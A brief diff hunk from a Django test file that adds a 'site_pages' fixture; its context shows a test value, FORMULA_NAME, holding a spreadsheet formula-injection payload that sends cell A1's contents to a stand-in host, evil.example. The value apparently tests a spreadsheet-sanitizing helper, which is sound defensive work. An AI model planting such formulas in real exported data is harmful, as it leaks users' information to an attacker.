@@ -11,7 +11,7 @@ from django.urls import reverse
 from kluby.models import ContactPage
 from kluby.spreadsheets import spreadsheet_safe
 
-pytestmark = pytest.mark.django_db
+pytestmark = [pytest.mark.django_db, pytest.mark.usefixtures("site_pages")]
 
 FORMULA_NAME = '=HYPERLINK("http://evil.example/?leak="&A1,"Click")'
 
